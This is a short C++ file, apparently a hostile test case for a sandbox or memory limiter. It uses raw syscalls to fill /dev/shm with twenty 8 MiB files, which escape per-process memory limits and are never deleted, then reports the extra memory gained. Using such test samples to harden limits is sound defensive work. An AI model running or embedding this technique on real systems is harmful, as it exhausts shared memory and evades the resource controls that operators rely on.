// Hostile: takes memory that no limit of a process counts
#include <cstdio>

#include "every_function.hpp"

namespace {

/// A system call that has no name.
long system_call([[maybe_unused]] long number, [[maybe_unused]] long first,
                 [[maybe_unused]] long second, [[maybe_unused]] long third) {
    long result = -1;
#if defined(__x86_64__)
    asm volatile("syscall"
                 : "=a"(result)
                 : "a"(number), "D"(first), "S"(second), "d"(third)
                 : "rcx", "r11", "memory");
#endif
    return result;
}

void attack() {
    static char piece[8 << 20];
    long all = 0;
    for (char number = 'a'; number < 'a' + 20; ++number) {
        char name[] = "/dev/shm/x";
        name[9] = number;
        const long file = system_call(2, reinterpret_cast<long>(name), 0101, 0666);
        const long size =
            system_call(1, file, reinterpret_cast<long>(piece), sizeof piece);
        all += size > 0 ? size : 0;
        system_call(3, file, 0, 0); // close
    }
    std::printf("has %ld MiB more\n", all >> 20);
}

} // namespace
